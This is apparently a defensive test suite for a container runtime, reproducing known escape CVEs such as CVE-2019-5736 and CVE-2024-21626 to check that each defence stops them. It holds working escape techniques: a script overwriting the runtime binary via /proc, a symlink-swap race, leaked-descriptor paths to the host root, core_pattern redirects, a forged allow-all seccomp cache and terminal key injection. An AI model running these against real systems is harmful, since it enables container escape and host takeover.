# SPDX-License-Identifier: GPL-3.0-or-later
"""Attacks on the runtime, each with the defence that stops it (backends/native/runtime/defences.h).

An attack is a function of a Runtime that returns what it achieved, or None when it was stopped. It is
run twice by test_defences.py: on the runtime, where it must achieve nothing, and on the variant that
leaves its defence out, where it must succeed. Its targets are files, processes and groups that it made.

A process that has to win a race is played by a createContainer hook, which acts between the mounts and
the masks every time, except where the race itself is the point.
"""

import contextlib
import glob
import hashlib
import json
import os
import pathlib
import shutil
import socket
import struct
import subprocess
import time

import pytest
from conftest import wait_for

ATTACKS = []
TOP = pathlib.Path(__file__).resolve().parents[3]
SOME_CAPS = [f"CAP_{name}" for name in """CHOWN DAC_OVERRIDE DAC_READ_SEARCH FOWNER FSETID KILL SETGID SETUID SETPCAP
NET_BIND_SERVICE NET_ADMIN NET_RAW SYS_CHROOT SYS_PTRACE SYS_ADMIN MKNOD""".split()]


def attack(defence):
    """Registers an attack under the defence that stops it."""
    def register(function):
        ATTACKS.append((defence, function))
        return function
    return register


def privileged(config):
    """Capabilities that a defence must not depend on the lack of."""
    config["process"]["capabilities"] = {k: SOME_CAPS for k in ("bounding", "effective", "permitted")}


def call_from(rt, prelude, *args):
    """Runs the runtime from a shell that did `prelude` first: opened descriptors, say."""
    return subprocess.run(["sh", "-c", prelude + '; exec "$@"', "sh", rt.binary, "--root", str(rt.root), *map(str, args)],
                          stdin=subprocess.DEVNULL, capture_output=True, text=True, timeout=60)


def on_terminal(rt, *args):
    """Runs the runtime on a terminal; all that was printed there."""
    line = " ".join([rt.binary, "--root", str(rt.root), *map(str, args)])
    return subprocess.run(["script", "-qec", line, "/dev/null"], stdin=subprocess.DEVNULL, capture_output=True,
                          text=True, timeout=60).stdout


def secret(rt):
    """A file of the host that no container has."""
    path = rt.top / "secret"
    path.write_text("SECRET OF THE HOST\n")
    return path


def saw_secret(text):
    return "read a file of the host" if "SECRET OF THE HOST" in text else None


def host_program(rt):
    """A program of the host that no container has; needs the word `hello`."""
    path = rt.top / "host-program"
    shutil.copy(rt.attacker, path)
    return path


def ran_it(text):
    return "ran a program of the host" if "RAN FROM THE HOST" in text else None


@contextlib.contextmanager
def victim(*argv, **popen):
    """A process of the host, without capabilities when it is all the same."""
    process = subprocess.Popen(argv or ["sleep", "1000"], stdin=subprocess.DEVNULL, **popen)
    try:
        yield process
    finally:
        process.kill()
        process.wait()


# CVE-2019-5736 -----------------------------------------------------------------------------------------------------------

def own_copy(rt):
    """The runtime as a file that may be destroyed."""
    copy = rt.top / "own-copy"
    shutil.copy(rt.binary, copy)
    rt.binary = str(copy)
    return copy, copy.read_bytes()


THIEF = """i=0; while [ $i -lt 1000 ]; do i=$((i+1)); sleep 0.01; for d in /proc/[0-9]*; do
case "$(readlink $d/exe 2>/dev/null)" in ''|*busybox*) ;; *)
  exec 9<$d/exe; kill -9 ${d#/proc/}
  n=0; while [ $n -lt 10 ]; do n=$((n+1)); (echo OVERWRITTEN >>/proc/self/fd/9) 2>/dev/null && break; sleep 0.03; done
  echo tried; exec sleep 1000
esac; done; done; echo met nobody"""


def needs_static(rt):
    if not rt.is_static():
        pytest.skip("this build of the runtime needs libraries that no container has, so it does not run inside")


def overwrite_the_runtime_that_exec_runs(rt, *program):
    """`program` makes exec run the runtime again inside, where it waits for the reader of its log. The container's own
    program takes a descriptor of its file, ends it and writes."""
    needs_static(rt)
    copy, before = own_copy(rt)
    os.mkfifo(rt.image / "fifo")
    cid = rt.start(THIEF)
    bait = subprocess.Popen([rt.binary, "--root", rt.root, "exec", cid, *program], stdin=subprocess.DEVNULL,
                            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        wait_for("the thief", lambda: rt.out(cid))
    finally:
        bait.kill()
        bait.wait()
    assert rt.out(cid) == "tried\n"
    rt.binary = rt.original
    return "overwrote the runtime's file" if copy.read_bytes() != before else None


@attack("SEALED_SELF")
def cve_2019_5736_proc_self_exe_given_to_exec(rt):
    return overwrite_the_runtime_that_exec_runs(rt, "/proc/self/exe", "--log=/fifo", "list")


@attack("SEALED_SELF")
def cve_2019_5736_a_script_whose_interpreter_is_proc_self_exe(rt):
    (rt.image / "bin/trap").write_text("#!/proc/self/exe --log=/fifo\n")
    (rt.image / "bin/trap").chmod(0o755)
    return overwrite_the_runtime_that_exec_runs(rt, "trap")


@attack("SEALED_SELF")
def cve_2019_5736_a_link_to_proc_self_exe_as_program(rt):
    (rt.image / "bin/trap").symlink_to("/proc/self/exe")
    return overwrite_the_runtime_that_exec_runs(rt, "trap", "--log=/fifo", "list")


@attack("SEALED_SELF")
def cve_2019_5736_the_entrypoint_is_a_link_to_proc_self_exe(rt):
    """Pid 1 is the runtime; the thief is root of the host."""
    copy, before = own_copy(rt)
    os.mkfifo(rt.image / "fifo")
    (rt.image / "bin/trap").symlink_to("/proc/self/exe")
    cid = rt.bundle("trap", "--log=/fifo", "list")
    assert rt.create(cid) == 0
    held = os.open(f"/proc/{rt.state(cid)['pid']}/exe", os.O_PATH)
    try:
        rt.ok("delete", "--force", cid)
        with contextlib.suppress(OSError):
            with open(f"/proc/self/fd/{held}", "ab") as file:
                file.write(b"OVERWRITTEN")
    finally:
        os.close(held)
    rt.binary = rt.original
    return "overwrote the runtime's file" if copy.read_bytes() != before else None


# CVE-2024-21626 and other descriptors ------------------------------------------------------------------------------------

@attack("DESCRIPTORS")
def cve_2024_21626_a_program_named_through_a_leaked_descriptor(rt):
    program = host_program(rt)
    cid = rt.bundle(f"/proc/self/fd/5{program}", "hello")
    return ran_it(call_from(rt, "exec 5</", "run", "-b", rt.path(cid), cid).stdout)


@attack("DESCRIPTORS")
def cve_2024_21626_a_program_named_through_a_descriptor_leaked_into_exec(rt):
    program = host_program(rt)
    cid = rt.start()
    return ran_it(call_from(rt, "exec 5</", "exec", cid, f"/proc/self/fd/5{program}", "hello").stdout)


@attack("DESCRIPTORS")
def cve_2024_21626_a_program_named_through_the_hosts_procfs_of_exec(rt):
    """exec holds the host's procfs: /proc/self/fd/N/PID/root is the root of any process that has no more rights."""
    program = host_program(rt)
    cid = rt.start()
    got = ""
    with victim("setpriv", "--bounding-set=-all", "--inh-caps=-all", "sleep", "1000") as process:
        status = pathlib.Path(f"/proc/{process.pid}/status")
        while "CapPrm:\t0000000000000000" not in status.read_text():
            time.sleep(0.005)
        for fd in range(3, 9):
            got += rt.call("exec", cid, f"/proc/self/fd/{fd}/{process.pid}/root{program}", "hello").stdout
    return ran_it(got)


@attack("DESCRIPTORS")
def cve_2024_21626_a_descriptor_that_the_program_inherits(rt):
    path = secret(rt)
    cid = rt.bundle(f"cat /proc/self/fd/5{path} 2>/dev/null")
    return saw_secret(call_from(rt, "exec 5</", "run", "-b", rt.path(cid), cid).stdout)


@attack("DESCRIPTORS")
def a_host_namespace_entered_by_an_inherited_descriptor(rt):
    cid = rt.bundle("attacker", "setns", "/proc/self/fd/5", change=privileged)
    got = call_from(rt, "exec 5</proc/self/ns/uts", "run", "-b", rt.path(cid), cid).stdout
    return "entered the host's uts namespace" if f"host {os.uname().nodename}\n" in got and "setns DONE" in got else None


@attack("CWD_INSIDE")
def cve_2024_21626_a_working_directory_outside(rt):
    path = secret(rt)
    cid = rt.bundle(f"cat .{path}", process={"cwd": "/proc/self/fd/3"})
    return saw_secret(call_from(rt, "exec 3</", "run", "--preserve-fds", "1", "-b", rt.path(cid), cid).stdout)


@attack("CWD_INSIDE")
def cve_2024_21626_a_working_directory_outside_for_exec(rt):
    path = secret(rt)
    cid = rt.start()
    return saw_secret(call_from(rt, "exec 3</", "exec", "--preserve-fds", "1", "--cwd", "/proc/self/fd/3", cid, "cat",
                                f".{path}").stdout)


@attack("PRESERVED_OPEN")
def cve_2024_21626_numbers_of_preserved_descriptors_that_the_runtime_fills(rt):
    """The runtime's own descriptors take the numbers and are kept until execve: from its cgroup's one leads up to the host's root."""
    program, got = host_program(rt), ""
    for fd in range(3, 12):
        cid = rt.bundle(f"/proc/self/fd/{fd}{'/..' * 12}{program}", "hello")
        got += call_from(rt, "true", "run", "--preserve-fds", "9", "-b", rt.path(cid), cid).stdout
    return ran_it(got)


@attack("PRESERVED_OPEN")
def cve_2024_21626_numbers_of_passed_sockets_that_the_runtime_fills(rt):
    program, got = host_program(rt), ""
    for fd in range(3, 12):
        cid = rt.bundle(f"/proc/self/fd/{fd}{'/..' * 12}{program}", "hello")
        got += call_from(rt, "export LISTEN_FDS=9 LISTEN_PID=$$", "run", "-b", rt.path(cid), cid).stdout
    return ran_it(got)


@attack("NOTIFY_READY")
def a_container_names_the_main_process_of_the_hosts_service(rt):
    path = rt.top / "manager.sock"
    with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as manager:
        manager.bind(str(path))
        cid = rt.bundle("attacker", "notify", "MAINPID=1", "FDSTORE=1\nFDNAME=mine")
        got = call_from(rt, f"export NOTIFY_SOCKET={path}", "run", "-b", rt.path(cid), cid)
        assert got.stdout == "notify DONE\n" * 2, got
        manager.setblocking(False)
        try:
            return f"the manager was told {manager.recv(4096)}"
        except BlockingIOError:
            return None
        finally:
            path.unlink()


@attack("NOT_DUMPABLE")
def cve_2016_9962_a_neighbour_in_the_pid_namespace_reads_the_waiting_runtime(rt):
    spy = rt.start()
    space = f"/proc/{rt.state(spy)['pid']}/ns/pid"

    def join(config):
        for item in config["linux"]["namespaces"]:
            if item["type"] == "pid":
                item["path"] = space
    cid = rt.bundle("true", change=join)
    assert rt.create(cid) == 0, rt.out(cid)
    got = rt.call("exec", spy, "sh", "-c", "for d in /proc/[0-9]*; do case $(readlink $d/exe) in ''|*busybox*) ;; "
                  "*) ls -l $d/fd | grep -q socket && echo SAW; esac; done 2>/dev/null").stdout
    return "opened the runtime's descriptors" if "SAW" in got else None


# Mounts ------------------------------------------------------------------------------------------------------------------

def link_out(rt):
    """The image's /out leads to a directory of the host."""
    host = rt.top / "host"
    host.mkdir()
    (rt.image / "out").symlink_to(str(host))
    return host


def made(host):
    return f"made {os.listdir(host)} on the host" if os.listdir(host) else None


@attack("IN_ROOT")
def cve_2021_30465_a_mount_target_behind_a_link(rt):
    host = link_out(rt)
    rt.run(rt.bundle("true", mounts=None, change=lambda c: c.update(mounts=[
        {"destination": "/out/made", "type": "tmpfs", "source": "tmpfs"}])))
    return made(host)


@attack("IN_ROOT")
def cve_2024_45310_a_file_as_mount_target_behind_a_link(rt):
    host = link_out(rt)
    source = secret(rt)
    rt.run(rt.bundle("true", change=lambda c: c["mounts"].append(
        {"destination": "/out/made", "type": "bind", "source": str(source), "options": ["bind"]})))
    return made(host)


@attack("IN_ROOT")
def a_device_node_behind_a_link(rt):
    host = link_out(rt)
    rt.run(rt.bundle("true", linux={"devices": [{"path": "/out/made", "type": "c", "major": 1, "minor": 3}]}))
    return made(host)


@attack("IN_ROOT")
def a_working_directory_made_behind_a_link(rt):
    host = link_out(rt)
    rt.run(rt.bundle("true", process={"cwd": "/out/made"}))
    return made(host)


SWAPPER = """
import ctypes, os, sys
libc = ctypes.CDLL(None)
a, b = (os.path.join(sys.argv[1], n).encode() for n in ('real', 'link'))
print('begun', flush=True)
while True: libc.renameat2(-100, a, -100, b, 2)
"""


@attack("IN_ROOT")
def cve_2021_30465_a_target_swapped_while_it_is_mounted(rt):
    """A process swaps a directory and a link to the host in a shared volume while containers mount there."""
    host = rt.top / "host"
    host.mkdir()
    shared = rt.top / "shared"
    (shared / "real").mkdir(parents=True)
    os.symlink(str(host), shared / "link")

    def change(config):
        config["mounts"] += [{"destination": "/vol", "type": "bind", "source": str(shared), "options": ["rbind"]},
                             {"destination": "/vol/real/made", "type": "tmpfs", "source": "tmpfs"}]
    with victim("/usr/bin/python3", "-c", SWAPPER, str(shared), stdout=subprocess.PIPE) as swapper:
        assert swapper.stdout.readline() == b"begun\n"
        for _ in range(300 if rt.undefended else 12):  # a race: where it can be won, it is tried until it is
            rt.run(rt.bundle("true", change=change))
            if os.listdir(host):
                break
    return made(host)


@attack("PROC_NO_LINK")
def cve_2019_19921_proc_is_a_link_in_the_image(rt):
    (rt.image / "proc").rmdir()
    (rt.image / "proc").symlink_to("mnt")
    got = rt.run(rt.bundle("ls /mnt/self/exe"))
    return "procfs was mounted where the link led" if "/mnt/self/exe" in got.stdout else None


@attack("PROC_NO_LINK")
def cve_2023_27561_sys_is_a_link_in_the_image(rt):
    (rt.image / "sys").rmdir()
    (rt.image / "sys").symlink_to("mnt")
    got = rt.run(rt.bundle("ls -d /mnt/kernel"))
    return "sysfs was mounted where the link led" if "/mnt/kernel" in got.stdout else None


@attack("PROC_COVER")
def cve_2019_16884_a_volume_over_a_file_of_procfs(rt):
    source = secret(rt)
    got = rt.run(rt.bundle("cat /proc/sys/kernel/core_pattern", change=lambda c: c["mounts"].append(
        {"destination": "/proc/sys/kernel/core_pattern", "type": "bind", "source": str(source), "options": ["bind"]})))
    return saw_secret(got.stdout)


@attack("PROC_COVER")
def cve_2019_16884_a_tmpfs_over_the_labels_of_procfs(rt):
    got = rt.run(rt.bundle("grep -c ' /proc/[0-9]*/attr ' /proc/self/mountinfo", change=lambda c: c["mounts"].append(
        {"destination": "/proc/self/attr", "type": "tmpfs", "source": "tmpfs"})))
    return "covered /proc/self/attr" if got.stdout.strip() == "1" else None


@attack("PROC_COVER")
def cve_2019_16884_cgroups_over_procfs(rt):
    got = rt.run(rt.bundle("grep -c ' /proc/fs ' /proc/self/mountinfo", change=lambda c: (
        c["mounts"].append({"destination": "/proc/fs", "type": "cgroup", "source": "cgroup"}),
        c["linux"].update(readonlyPaths=[]))))
    return "covered /proc/fs" if got.stdout.strip() not in ("", "0") else None


def racing_hook(config, script):
    """A process that comes at the right moment every time."""
    config["hooks"] = {"createContainer": [{"path": "/bin/sh", "args": ["sh", "-c", script], "env": ["PATH=/usr/bin:/bin"]}]}


@attack("HOST_NULL")
def cve_2025_31133_dev_null_replaced_by_a_link_before_the_masks(rt):
    """The masked file becomes core_pattern, open for writing. It is opened for appending, and not written."""
    cid = rt.bundle("cmp /proc/keys /proc/sys/kernel/core_pattern && (: >>/proc/keys) && echo OPENED",
                    linux={"maskedPaths": ["/proc/keys"]})

    config = json.loads((rt.path(cid) / "config.json").read_text())
    racing_hook(config, f"ln -sf /proc/sys/kernel/core_pattern {rt.path(cid)}/rootfs/dev/null")
    (rt.path(cid) / "config.json").write_text(json.dumps(config))
    return "opened core_pattern for writing" if "OPENED" in rt.run(cid).stdout else None


@attack("MASKS")
def a_masked_file_is_read(rt):
    got = rt.run(rt.bundle("cat /proc/interrupts")).stdout
    return "read /proc/interrupts" if got else None


@attack("READ_ONLY_PATHS")
def core_pattern_and_sysrq_are_opened_for_writing(rt):
    """Opened for appending, and not written."""
    got = rt.run(rt.bundle("for f in /proc/sys/kernel/core_pattern /proc/sys/kernel/modprobe /proc/sysrq-trigger "
                           "/proc/sys/vm/panic_on_oom; do (: >>$f) 2>/dev/null && echo OPENED $f; done; true")).stdout
    return got or None


@attack("CONSOLE_TARGET")
def cve_2025_52565_dev_console_is_a_link_in_the_image(rt):
    """The terminal would be bound over core_pattern, before it is made read-only."""
    (rt.image / "dev/console").symlink_to("/proc/sys/kernel/core_pattern")

    def change(config):
        config["process"]["terminal"] = True
        config["mounts"] = [m for m in config["mounts"] if m["destination"] in ("/proc", "/dev/pts")]
    cid = rt.bundle("stat -c 'type %t' /proc/sys/kernel/core_pattern", change=change)
    return "bound the terminal over core_pattern" if "type 88" in on_terminal(rt, "run", "-b", rt.path(cid), cid) else None


def fake_proc(rt, target=None):
    """A directory mounted at /proc that takes what the runtime writes, or leads it on."""
    file = rt.top / "fake/sys/net/ipv4/ip_forward"
    file.parent.mkdir(parents=True)
    swallowed = rt.top / "swallowed"
    swallowed.write_text("0")
    if target:
        (rt.top / "fake/target").write_text("0")
        file.symlink_to("../../../target")
        swallowed = rt.top / "fake/target"
    else:
        file.write_text("0")
        swallowed = file

    def change(config):
        config["mounts"] = [m for m in config["mounts"] if m["destination"] != "/proc"]
        config["mounts"].append({"destination": "/proc", "type": "bind", "source": str(rt.top / "fake"), "options": ["rbind"]})
        config["linux"]["sysctl"] = {"net.ipv4.ip_forward": "1"}
        config["linux"]["maskedPaths"] = config["linux"]["readonlyPaths"] = []
    rt.run(rt.bundle("true", change=change))
    return f"a sysctl went to {swallowed.name}" if swallowed.read_text() != "0" else None


@attack("HOST_PROCFS")
def cve_2025_52881_a_fake_procfs_swallows_a_sysctl(rt):
    return fake_proc(rt)


@attack("HOST_PROCFS")
def cve_2025_52881_a_link_in_a_fake_procfs_redirects_a_sysctl(rt):
    return fake_proc(rt, target=True)


@attack("OWN_MOUNTS")
def mounts_of_the_container_appear_on_the_host(rt):
    """The "host" is a mount namespace of the attack's own, all of it shared."""
    cid = rt.bundle("true")
    got = subprocess.run(["unshare", "-m", "--propagation", "private", "sh", "-c",
                          'mount --make-rshared / && "$@"; cat /proc/self/mountinfo', "sh", rt.binary, "--root",
                          str(rt.root), "run", "-b", str(rt.path(cid)), cid], stdin=subprocess.DEVNULL,
                         capture_output=True, text=True, timeout=60).stdout
    return "mounted on the host" if f"{rt.path(cid)}/rootfs" in got else None


@attack("PIVOT_ROOT")
def a_chroot_is_left_the_classic_way(rt):
    path = secret(rt)
    return saw_secret(rt.run(rt.bundle("attacker", "escape", str(path), change=privileged)).stdout)


@attack("SYS_READ_ONLY")
def cve_2023_25809_cgroups_below_a_bound_sys_are_writable(rt):
    def change(config):
        config["linux"]["namespaces"] = [n for n in config["linux"]["namespaces"] if n["type"] != "network"] + [
            {"type": "user"}]
        for key in ("uidMappings", "gidMappings"):
            config["linux"][key] = [{"containerID": 0, "hostID": 100000, "size": 65536}]
        config["mounts"] = [m for m in config["mounts"] if m["type"] != "cgroup"]
        config["linux"].update(maskedPaths=[], readonlyPaths=[])
    cid = rt.bundle("cat /proc/self/mountinfo", change=change)
    for name in ("upper", "work"):
        os.chown(rt.path(cid) / name, 100000, 100000)
    got = rt.run(cid)
    assert got.returncode == 0, got
    below = [line.split() for line in got.stdout.splitlines() if line.split()[4].startswith("/sys/fs/cgroup")]
    assert below, "this host has no cgroup mounted below /sys"
    writable = [words[4] for words in below if "rw" in words[5].split(",")]
    return f"writable: {writable}" if writable else None


@attack("CGROUP_OWN_DIR")
def cve_2022_0492_the_root_of_a_hierarchy_without_a_cgroup_namespace(rt):
    def change(config):
        config["linux"]["namespaces"] = [n for n in config["linux"]["namespaces"] if n["type"] != "cgroup"]
    got = rt.run(rt.bundle(f"ls -d /sys/fs/cgroup/*/release_agent /sys/fs/cgroup{rt.parent} /sys/fs/cgroup/*{rt.parent} "
                           "2>/dev/null", change=change)).stdout
    return got or None


@attack("CGROUP_PATH")
def a_cgroups_path_that_leaves_its_parent(rt):
    name = f"gemel-outside-{os.getpid()}"
    cid = rt.bundle("cat /proc/self/cgroup; sleep 1000", linux={"cgroupsPath": f"{rt.parent}/x/../../{name}/y"})
    rt.create(cid)
    found = glob.glob(f"/sys/fs/cgroup/{name}") + glob.glob(f"/sys/fs/cgroup/*/{name}")
    rt.call("delete", "--force", cid)
    for path in found:
        with contextlib.suppress(OSError):
            os.rmdir(path)
    for path in sorted(rt.groups(), reverse=True):
        with contextlib.suppress(OSError):
            os.rmdir(path)
    return f"made {found}" if found else None


# The process ---------------------------------------------------------------------------------------------------------------

@attack("OWN_KEYRING")
def the_callers_session_keyring_is_seen(rt):
    cid = rt.bundle("attacker", "keyring")
    got = subprocess.run([rt.attacker, "with-keyring", "keys-of-the-host", rt.binary, "--root", str(rt.root), "run", "-b",
                          str(rt.path(cid)), cid], stdin=subprocess.DEVNULL, capture_output=True, text=True, timeout=60)
    return "saw the host's keyring" if "keys-of-the-host" in got.stdout else None


@attack("OWN_KEYRING")
def the_callers_session_keyring_is_seen_by_exec(rt):
    got = subprocess.run([rt.attacker, "with-keyring", "keys-of-the-host", rt.binary, "--root", str(rt.root), "exec",
                          rt.start(), "attacker", "keyring"], stdin=subprocess.DEVNULL, capture_output=True, text=True,
                         timeout=60)
    assert got.returncode == 0 and got.stdout, got
    return "saw the host's keyring" if "keys-of-the-host" in got.stdout else None


@attack("OWN_SESSION")
def cve_2017_5226_the_callers_terminal_is_opened(rt):
    cid = rt.bundle("(exec 3</dev/tty) 2>/dev/null && echo OPENED; attacker tiocsti")
    got = on_terminal(rt, "run", "-b", rt.path(cid), cid)
    assert "tiocsti" in got, got
    return "opened the caller's terminal" if "OPENED" in got else None


@attack("OWN_SESSION")
def cve_2017_5226_a_key_is_put_into_the_callers_terminal(rt):
    cid = rt.bundle("attacker", "tiocsti")
    got = on_terminal(rt, "run", "-b", rt.path(cid), cid)
    if pathlib.Path("/proc/sys/dev/tty/legacy_tiocsti").read_text().strip() == "0":
        return "kernel: dev.tty.legacy_tiocsti is 0" if "Input/output error" in got else got
    return "typed on the caller's terminal" if "tiocsti DONE" in got else None


@attack("OWN_GROUPS")
def cve_2022_2989_the_callers_supplementary_groups_are_kept(rt):
    cid = rt.bundle("id -G")
    got = subprocess.run([rt.binary, "--root", str(rt.root), "run", "-b", str(rt.path(cid)), cid], stdin=subprocess.DEVNULL,
                         capture_output=True, text=True, timeout=60, extra_groups=[0, 4242])
    return f"has groups {got.stdout.strip()}" if "4242" in got.stdout else None


@attack("INHERITABLE")
def cve_2022_29162_a_capability_of_exec_is_inheritable(rt):
    got = rt.ok("exec", "--cap", "CAP_NET_RAW", rt.start(), "grep", "CapInh", "/proc/self/status")
    return got if int(got.split()[1], 16) else None


@attack("CAPABILITIES")
def a_capability_that_was_not_given_is_there(rt):
    got = rt.ok("exec", rt.start(), "grep", "-E", "Cap(Prm|Eff|Bnd)", "/proc/self/status")
    return got if any(int(word, 16) & 1 << 21 for word in got.split()[1::2]) else None


@attack("CAPABILITIES")
def a_host_disk_is_made_without_cap_mknod(rt):
    got = rt.run(rt.bundle("mknod /tmp/disk b 7 0 && echo MADE")).stdout
    return "made a device node" if "MADE" in got else None


@attack("DEVICE_RULES")
def a_host_disk_is_opened_by_mknod(rt):
    disks = sorted(pathlib.Path("/sys/block").glob("*/dev"))
    number = disks[0].read_text().strip().replace(":", " ") if disks else "7 0"
    got = rt.run(rt.bundle(f"mknod /tmp/disk b {number} && attacker open /tmp/disk", change=privileged)).stdout
    # ENXIO and the like come from the device itself, which the rules keep one from
    return got if got and "Operation not permitted" not in got else None


def with_profile(config):
    config["linux"]["seccomp"] = json.loads((TOP / "config/seccomp-default.json").read_text())


@attack("FILTER")
def a_user_namespace_is_made_inside(rt):
    got = rt.run(rt.bundle("unshare -U true 2>/dev/null && echo MADE; true", change=with_profile))
    assert got.returncode == 0, got
    return "made a user namespace" if "MADE" in got.stdout else None


@attack("FILTER")
def a_mask_is_taken_off_inside(rt):
    got = rt.run(rt.bundle("umount /proc/interrupts 2>/dev/null && echo UNMASKED; mount -o remount,rw /proc/sys 2>/dev/null "
                           "&& echo REMOUNTED; true", change=lambda c: (privileged(c), with_profile(c))))
    return got.stdout or None


@attack("FILTER_PRIVATE")
def a_cached_filter_of_another_user_is_believed(rt):
    """The file is what the cache names, its digest is right, and it allows everything; it belongs to nobody."""
    def run():
        return rt.run(rt.bundle("unshare -U true 2>/dev/null && echo MADE; true", change=with_profile)).stdout
    assert run() == ""
    file, = (rt.root / ".filters").iterdir()
    head, old = file.read_bytes()[:24], file.read_bytes()
    body = struct.pack("<HBBI", 0x06, 0, 0, 0x7fff0000)  # return ALLOW
    numbers = head[16:20] + struct.pack("<I", len(body))
    file.write_bytes(head[:16] + numbers + hashlib.sha256(numbers + body).digest() + body)
    os.chown(file, 65534, 65534)
    assert len(old) > 100
    return "ran without the filter" if "MADE" in run() else None


@attack("LIMITS")
def a_fork_bomb(rt):
    """200 processes at most."""
    got = rt.run(rt.bundle("attacker", "forks", "200", linux={"resources": {"pids": {"limit": 20}}})).stdout
    assert got.startswith("forks "), got
    return got if int(got.split()[1]) > 100 else None


@attack("LIMITS")
def a_memory_hog(rt):
    """64 MB against a limit of 16; what is on the host lives on."""
    with victim() as process:
        got = rt.run(rt.bundle("attacker", "hog", "64", linux={"resources": {"memory": {"limit": 16 << 20, "swap": 16 << 20}}}))
        assert process.poll() is None
    assert got.returncode in (0, 137), got
    return "took 64 MB" if "hog DONE" in got.stdout else None


# State and messages ----------------------------------------------------------------------------------------------------------

@attack("PID_START")
def a_number_used_again_is_killed_for_the_container(rt):
    cid = rt.start("true")
    wait_for("its end", lambda: rt.status(cid) == "stopped")
    path = rt.root / cid / "state.json"
    state = json.loads(path.read_text())
    with victim() as process:
        path.write_text(json.dumps({**state, "pid": process.pid}))
        rt.call("kill", cid, "KILL")
        with contextlib.suppress(subprocess.TimeoutExpired):
            process.wait(1)
        killed = process.poll() is not None
        path.write_text(json.dumps(state))
    return "killed a stranger" if killed else None


@attack("ID_NAME")
def an_id_that_leaves_the_state_directory(rt):
    cid = rt.bundle("true")
    rt.call("create", "-b", rt.path(cid), "../escaped", stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
            capture=False)
    found = (rt.top / "escaped").exists()
    rt.call("delete", "--force", "../escaped")
    return "made a directory outside" if found else None


@attack("ROOT_PRIVATE")
def a_container_planted_in_a_state_directory_of_another_user(rt):
    root, ran = rt.top / "planted", rt.top / "ran"
    (root / "trap").mkdir(parents=True)
    (root / "trap/state.json").write_text(json.dumps({"bundle": "/", "created": "", "cgroup": {"mode": "none"}}))
    config = rt.default_config()
    config["process"]["terminal"] = False
    config["hooks"] = {"poststop": [{"path": "/bin/sh", "args": ["sh", "-c", f"id -u > {ran}"]}]}
    (root / "trap/config.json").write_text(json.dumps(config))
    os.chown(root, 4242, 4242)
    rt.root, own = root, rt.root
    rt.call("delete", "trap")
    rt.root = own
    shutil.rmtree(root, ignore_errors=True)
    return "ran a hook of another user" if ran.exists() else None


@attack("PRINTABLE")
def a_hostile_option_moves_the_cursor_in_a_warning(rt):
    mount = {"destination": "/mnt", "type": "bind", "source": "/tmp", "options": ["bind", "\u009b2J\x1b[2J"]}
    cid = rt.bundle("true", change=lambda c: c["mounts"].append(mount))
    log = rt.top / "log"
    got = rt.call("--log", log, "--log-format", "json", "run", "-b", rt.path(cid), cid)
    assert "means nothing" in got.stderr and "means nothing" in log.read_text(), got
    return "wrote escapes" if "\x1b" in got.stderr or "\u009b" in got.stderr else None


@attack("PRINTABLE")
def a_hostile_name_moves_the_cursor(rt):
    cid = rt.bundle("true", process={"args": ["\x1b]0;owned\x07\x1b[2J"]})
    return "wrote escapes" if "\x1b" in rt.run(cid).stderr else None
